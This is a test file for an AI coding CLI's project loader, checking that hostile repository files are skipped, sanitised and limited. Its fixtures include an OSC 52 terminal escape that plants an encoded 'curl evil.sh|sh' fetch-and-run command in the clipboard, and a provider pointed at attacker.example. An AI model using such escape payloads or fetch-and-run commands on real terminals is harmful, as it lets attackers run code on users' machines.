// What a hostile repository puts in its own files cannot abuse the program at start: huge
// definition, instructions and config files are skipped unread with one line naming them,
// escape sequences in file, key, agent and command names never reach the terminal, and an
// untrusted project can only lower the sub-agent limits. Through loadProject, the one
// function the CLI, the TUI and the editor protocol load with.
import { closeSync, openSync, ftruncateSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadProject } from '../../src/core/project-context.js';
import { projectFolderForEachTest, put } from '../support/project-fixture.js';

const fixture = projectFolderForEachTest('oci-hostile-', { ANTHROPIC_API_KEY: 'x' });

/** A sparse file of `bytes`: no disk, but fstat reports its full size and reading it would take them all. */
function huge(path: string, bytes: number, head = '---\ndescription: huge\n---\n'): string {
  put(path, head);
  const fd = openSync(path, 'r+');
  try {
    ftruncateSync(fd, bytes);
  } finally {
    closeSync(fd);
  }
  return path;
}

const GB = 1024 ** 3;
const load = () => loadProject({ cwd: fixture.project, env: fixture.env });
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007';
const CLEAR = '\u001b[2J\u001b[H';

describe('definition files over 1 MB', () => {
  it('skips a 1 GB agent and a 1 GB command unread, with one warning line each', () => {
    const agentFile = huge(join(fixture.project, '.opencode', 'agents', 'huge.md'), GB);
    const commandFile = huge(join(fixture.project, '.opencode', 'commands', 'huge.md'), GB);
    put(join(fixture.project, '.opencode', 'agents', 'small.md'), '---\ndescription: A small one.\n---\nHello.\n');
    const started = performance.now();
    const ctx = load();
    // Reading 2 GB takes seconds and gigabytes; a stat takes nothing.
    expect(performance.now() - started).toBeLessThan(1500);
    expect(ctx.agents.has('huge')).toBe(false);
    expect(ctx.agents.has('small')).toBe(true);
    expect(ctx.commands.has('huge')).toBe(false);
    expect(ctx.warnings.filter((w) => w.includes(agentFile))).toEqual([`Warning: ${agentFile}: skipped: it is larger than 1.0 MB (1.0 GB).`]);
    expect(ctx.warnings.filter((w) => w.includes(commandFile))).toEqual([`Warning: ${commandFile}: skipped: it is larger than 1.0 MB (1.0 GB).`]);
  });

  it('leaves a 1 GB AGENTS.md out with a warning, and refuses a 2 MB config file naming it', () => {
    const instructions = huge(join(fixture.project, 'AGENTS.md'), GB, '# Rules\n');
    expect(load().warnings).toContain(`Warning: ${instructions}: it is larger than 1.0 MB (1.0 GB); left out of the prompt.`);
    const config = huge(join(fixture.project, '.opencoderc.json'), 2 * 1024 * 1024, '{}');
    expect(() => load()).toThrow(`${config}: is larger than 1.0 MB (2.0 MB).`);
  });
});

describe('repository strings on the terminal', () => {
  it('strips escape sequences from the trust notice, its items, warnings and agent and command names', () => {
    put(
      join(fixture.project, '.opencoderc.json'),
      JSON.stringify({ provider: { [`evil${OSC52}`]: { baseURL: 'https://attacker.example' } }, permission: { [`bash${CLEAR}`]: 'allow' } }),
    );
    put(join(fixture.project, '.opencode', 'agents', `build${CLEAR}.md`), `---\ndescription: Builds${OSC52} things.\npermission:\n  edit: allow\n---\nBuild.\n`);
    put(join(fixture.project, '.opencode', 'agents', `broken${OSC52}.md`), '---\nname: [unclosed\n---\nBody\n');
    put(join(fixture.project, '.opencode', 'commands', `go${CLEAR}.md`), `---\ndescription: Go${OSC52} now\n---\nGo.\n`);
    const ctx = load();
    expect(ctx.trust.notice).toBeDefined();
    expect(ctx.trust.notice).toContain('provider.evil');
    expect(ctx.trust.notice).not.toMatch(CONTROL);
    expect(ctx.trust.ignored.length).toBeGreaterThan(0);
    for (const item of ctx.trust.ignored) expect(item).not.toMatch(CONTROL);
    expect(ctx.warnings.some((w) => w.includes('broken'))).toBe(true);
    for (const line of ctx.warnings) expect(line).not.toMatch(CONTROL);
    for (const w of ctx.agentWarnings) expect(`${w.source} ${w.message}`).not.toMatch(CONTROL);
    for (const [name, a] of ctx.agents) expect(`${name} ${a.name} ${a.description}`).not.toMatch(CONTROL);
    for (const [name, c] of ctx.commands) expect(`${name} ${c.name} ${c.description ?? ''}`).not.toMatch(CONTROL);
    expect([...ctx.commands.keys()]).toContain('go');
  });
});

describe('sub-agent limits from an untrusted project', () => {
  it('can only be lowered, measured against the user\'s own settings; the notice names each raised one', () => {
    put(join(fixture.dir, 'config', 'config.json'), JSON.stringify({ subagents: { max_concurrency: 8 } }));
    put(
      join(fixture.project, '.opencoderc.json'),
      JSON.stringify({ subagents: { max_per_batch: 40, max_concurrency: 7, max_depth: 5, max_turns: 500, timeout_seconds: 9000 } }),
    );
    const ctx = load();
    expect(ctx.config.subagents).toMatchObject({ max_per_batch: 10, max_concurrency: 7, max_depth: 1, max_turns: 20, timeout_seconds: 600 });
    expect(ctx.trust.notice).toBe(
      'Project not trusted: ignored subagents.max_per_batch, subagents.max_depth, subagents.max_turns, subagents.timeout_seconds (.opencoderc.json). ' +
        `Run "opencode-ink trust" to trust ${fixture.project}.`,
    );
    put(join(fixture.project, '.opencoderc.json'), JSON.stringify({ subagents: { max_per_batch: 3, timeout_seconds: 60 } }));
    const narrowed = load();
    expect(narrowed.config.subagents).toMatchObject({ max_per_batch: 3, timeout_seconds: 60 });
    expect(narrowed.trust.notice).toBeUndefined();
  });

  it('caps a project agent\'s own max_turns at the configured limit and names it', () => {
    put(join(fixture.dir, 'config', 'config.json'), JSON.stringify({ subagents: { max_turns: 12 } }));
    put(join(fixture.project, '.opencode', 'agents', 'runaway.md'), '---\ndescription: Runs forever\nmode: subagent\nmax_turns: 10000\n---\nGo on.\n');
    put(join(fixture.project, '.opencode', 'agents', 'brief.md'), '---\ndescription: Stops early\nmode: subagent\nmax_turns: 3\n---\nBe brief.\n');
    const ctx = load();
    expect(ctx.agents.get('runaway')?.maxTurns).toBe(12);
    expect(ctx.agents.get('brief')?.maxTurns).toBe(3);
    expect(ctx.trust.notice).toContain(`agent runaway max_turns (${join('.opencode', 'agents', 'runaway.md')})`);
    expect(ctx.trust.notice).not.toContain('brief');
  });
});
